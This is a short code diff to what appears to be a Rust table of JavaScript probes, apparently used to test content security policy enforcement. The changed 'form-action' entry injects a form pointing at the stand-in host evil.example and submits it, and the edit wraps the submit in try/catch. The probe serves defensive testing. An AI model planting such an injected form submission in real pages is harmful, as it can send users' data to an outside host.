@@ -45,7 +45,7 @@ const TRIES: [(&str, &str); 9] = [
     (
         "form-action",
         "document.body.insertAdjacentHTML('beforeend', '<form action=\"https://evil.example/\"></form>');
-         document.forms[document.forms.length - 1].submit()",
+         try { document.forms[document.forms.length - 1].submit() } catch {}",
     ),
 ];
 
